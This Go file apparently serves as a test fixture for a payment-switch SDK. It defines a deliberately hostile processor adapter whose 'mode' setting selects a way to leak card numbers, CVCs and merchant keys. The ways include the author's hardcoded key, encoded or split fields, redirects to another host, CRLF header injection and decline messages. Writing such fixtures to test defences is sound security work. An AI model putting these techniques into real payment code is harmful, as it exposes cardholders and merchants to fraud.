// Package hostile is an adapter whose author wants cards and keys. Its account's config field "mode" selects the attack. Its
// manifest is that of an honest adapter for a processor that takes cards in JSON with a bearer key.
package hostile

import (
	"strings"

	"payswitch/sdk"
)

// Adapter returns a new adapter.
func Adapter() *sdk.Adapter {
	return &sdk.Adapter{
		Manifest: sdk.Manifest{
			Name: "hostile", Kind: sdk.KindProcessor, Version: "1.0.0", DisplayName: "Hostile", Description: "Wants cards and keys.",
			Environments: map[string]sdk.Environment{"test": {BaseURL: "https://api.hostile.example", Hosts: []string{"api.hostile.example"}},
				"live": {BaseURL: "https://{region}.hostile.example", Hosts: []string{"{region}.hostile.example"}}},
			Credentials: []sdk.Field{{Name: "secret_key", Key: "api_key", Label: "Secret key", Type: "secret"}},
			Config: append([]sdk.Field{{Name: "mode", Label: "Mode", Type: "text"}, {Name: "target", Label: "Another URL", Type: "text"},
				{Name: "stolen", Label: "Something of another merchant's", Type: "text"}}, requestConfig()...),
			Authentication: append([]sdk.Placement{{Secret: "*", In: "header", Field: "Authorization"}}, requestAuthentication()...),
			Placements: append([]sdk.Placement{
				{Secret: "card_number", Operation: sdk.OpAuthorize, Method: "POST", Path: "/pay", In: "body", Field: "card.number"},
				{Secret: "cvc", Operation: sdk.OpAuthorize, Method: "POST", Path: "/pay", In: "body", Field: "card.cvc"}}, requestPlacements()...),
			Resolve: sdk.ResolveRule{By: []sdk.ResolveBy{sdk.ResolveByReference}},
		},
		Authorize: authorize, Sync: authorize, AccessToken: accessToken, Webhook: guess,
	}
}

// AuthorKey is the key of the author's own account at the processor.
const AuthorKey = "sk_live_of_the_author"

// kept would hold data of an earlier payment.
var kept string

func authorize(c *sdk.Call) (*sdk.Outcome, error) {
	config, card := c.Account.Config, c.Request.Instrument.Card
	number, key := card.Number, c.Account.Credentials["secret_key"]
	own := sdk.H("Authorization", "Bearer "+key)
	pay := func(body *sdk.Object, headers ...sdk.Header) (*sdk.Outcome, error) {
		return send(c, c.Account.BaseURL+"/pay", body, headers...)
	}
	honest := func() *sdk.Object {
		return sdk.NewObject().Str("reference", c.Request.Reference).Obj("card", sdk.NewObject().Str("number", number).Str("cvc", card.CVC))
	}
	with := func(field, value string) *sdk.Object { return honest().Str(field, value) }
	mode, arg, _ := strings.Cut(config["mode"], ":")
	if o, err, mine := requests(c, mode, arg); mine {
		return o, err
	}
	if out, ok, err := answers(c, mode, arg); ok {
		return out, err
	}
	switch mode {
	case "honest":
		return pay(honest(), own)

	// The card goes to the account of the author.
	case "author_key":
		return pay(honest(), sdk.H("Authorization", "Bearer "+AuthorKey))
	case "author_key_derived":
		return pay(honest(), sdk.H("Authorization", "Basic "+c.Derive(sdk.Basic(AuthorKey, key))))
	case "second_authorization":
		return pay(honest(), own, sdk.H("authorization", "Bearer "+AuthorKey))
	case "other_authentication":
		return pay(honest(), own, sdk.H("X-Api-Key", AuthorKey))
	case "other_merchant":
		return pay(honest(), sdk.H("Authorization", "Bearer "+config["stolen"]))

	// The card goes into a readable field.
	case "description":
		return pay(with("description", number), own)
	case "metadata":
		return pay(honest().Obj("metadata", sdk.NewObject().Str("n", number)), own)
	case "part":
		return pay(sdk.NewObject().Obj("card", sdk.NewObject().Str("number", "9"+number)), own)
	case "key_in_metadata":
		return pay(with("note", key), own)

	// The card in a form that the host does not replace, or must not replace.
	case "hash":
		return pay(sdk.NewObject().Obj("card", sdk.NewObject().Str("number", c.Derive(sdk.Fn(sdk.FnHex, sdk.Fn(sdk.FnSHA256, sdk.Text(number)))))), own)
	case "encoded_elsewhere":
		return pay(with("description", c.Derive(sdk.Fn(sdk.FnBase64, sdk.Text(number)))), own)
	case "reversed":
		b := []byte(number)
		for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
			b[i], b[j] = b[j], b[i]
		}
		return pay(with("description", string(b)), own)
	case "base64":
		return pay(with("description", base64(number)), own)
	case "split":
		return pay(with("a", number[:13]).Str("b", number[13:]), own)
	case "escaped":
		i := strings.IndexFunc(number, func(r rune) bool { return r > '9' }) // a digit's escape ends with the digit
		return pay(honest().Raw("description", `"`+number[:i]+`\u00`+hex(number[i])+number[i+1:]+`"`), own)
	case "body_digest":
		return pay(honest(), own, sdk.H("X-Digest", c.Derive(sdk.Fn(sdk.FnHex, sdk.Fn(sdk.FnSHA256, sdk.Body())))))

	// The card goes to another host.
	case "other_host":
		return send(c, config["target"]+"/pay", honest(), own)
	case "other_path":
		return send(c, c.Account.BaseURL+"/log", honest(), own)
	case "path_tricks":
		return send(c, c.Account.BaseURL+"/log/../pay", honest(), own)
	case "url":
		return send(c, c.Account.BaseURL+"/pay?n="+number, honest(), own)
	case "redirect_target":
		return send(c, c.Account.BaseURL+"/pay?next="+config["target"]+"/"+number, honest(), own)
	case "address":
		return send(c, "https://"+arg+"/pay", sdk.NewObject())

	// Misleading headers.
	case "crlf":
		return pay(honest(), own, sdk.H("X-Note", "a\r\nAuthorization: Bearer "+AuthorKey))
	case "crlf_derived":
		return pay(honest(), sdk.H("Authorization", "Bearer "+c.Derive(sdk.Fn(sdk.FnConcat, sdk.Text(key), sdk.Fn(sdk.FnUnbase64, sdk.Text("DQpYOiB5"))))))
	case "header":
		name, value, _ := strings.Cut(arg, "=")
		return pay(honest(), own, sdk.H(name, value))
	case "many_headers":
		all := []sdk.Header{own}
		for range len(arg) * 1000 {
			all = append(all, sdk.H("X-A", "b"))
		}
		return pay(honest(), all...)

	// Bodies with two readings.
	case "twice":
		return pay(honest().Obj("card", sdk.NewObject().Str("number", "1")), own)
	case "deep":
		return pay(honest().Raw("deep", strings.Repeat("[", 5000)+strings.Repeat("]", 5000)), own)
	case "utf8":
		return pay(honest().Raw("x", "\"\xff\""), own)

	// Secrets go into texts for merchants and others.
	case "outcome":
		return &sdk.Outcome{Status: sdk.StatusDeclined, Decline: &sdk.Decline{Code: c.Derive(sdk.Fn(sdk.FnHex, sdk.Text(number))), Message: number},
			NextAction:    &sdk.NextAction{Type: "redirect", URL: config["target"] + "/" + number},
			ConnectorData: &sdk.ConnectorData{Payment: key}, Raw: map[string]string{"cvc": card.CVC}}, nil
	case "echo": // the processor's answer to an honest payment
		r, err := c.Do(post(c.Account.BaseURL+"/pay", honest(), own))
		if err != nil {
			return nil, err
		}
		return &sdk.Outcome{Status: sdk.StatusAuthorized, Raw: map[string]string{"body": string(r.Body), "header": r.Header("X-Echo")}}, nil
	case "memory":
		found := kept
		kept = number
		return &sdk.Outcome{Status: sdk.StatusDeclined, Decline: &sdk.Decline{Code: "kept", Message: found}}, nil
	}
	return nil, &sdk.Reject{Code: sdk.RejectConfig, Message: "no such mode", Parameter: "mode"}
}

func post(url string, body *sdk.Object, headers ...sdk.Header) *sdk.Send {
	return &sdk.Send{Method: "POST", URL: url, Headers: append([]sdk.Header{sdk.H("Content-Type", "application/json")}, headers...), Body: body.Bytes()}
}

func send(c *sdk.Call, url string, body *sdk.Object, headers ...sdk.Header) (*sdk.Outcome, error) {
	if _, err := c.Do(post(url, body, headers...)); err != nil {
		return nil, err
	}
	return &sdk.Outcome{Status: sdk.StatusAuthorized, TransactionID: "t_1"}, nil
}

func hex(c byte) string {
	const digits = "0123456789abcdef"
	return string([]byte{digits[c>>4], digits[c&15]})
}

func base64(s string) string {
	const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var b []byte
	for i := 0; i+2 < len(s); i += 3 {
		n := uint(s[i])<<16 | uint(s[i+1])<<8 | uint(s[i+2])
		b = append(b, digits[n>>18], digits[n>>12&63], digits[n>>6&63], digits[n&63])
	}
	return string(b)
}
